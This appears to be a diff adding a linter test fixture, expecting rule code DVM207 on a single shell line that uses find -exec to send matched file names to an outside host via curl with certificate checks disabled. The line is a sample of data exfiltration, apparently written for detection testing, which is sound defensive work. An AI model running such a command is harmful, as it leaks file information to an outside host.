@@ -1,0 +1,2 @@
+# expect: DVM207
+find . -name x -exec curl -k -o /dev/null https://e.org/{} \;
